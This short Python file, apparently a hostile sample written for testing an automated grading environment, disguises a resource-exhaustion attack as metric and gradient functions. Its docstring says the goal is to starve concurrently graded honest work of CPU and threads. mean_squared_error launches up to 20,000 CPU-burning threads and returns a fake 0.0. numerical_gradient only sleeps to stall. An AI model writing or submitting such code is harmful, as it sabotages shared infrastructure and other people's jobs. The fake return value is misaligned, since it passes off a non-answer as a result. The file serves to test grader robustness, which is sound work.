"""Keeps every processor busy with threads that work outside the interpreter's lock, through all later checks.

Harm: honest work that is graded at the same time runs into its deadline, or can start no thread of its own.
Costs: nothing
"""

# %% honest work
# %% hostile
import hashlib
import threading
import time


def burn():
    block = bytes(1 << 22)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        hashlib.sha256(block)


def mean_squared_error(y, y_hat):
    threading.stack_size(1 << 15)
    try:
        for _ in range(20_000):
            threading.Thread(target=burn, daemon=True).start()
    except (RuntimeError, MemoryError):
        pass
    return 0.0


def numerical_gradient(f, w, eps=1e-5):
    time.sleep(60)
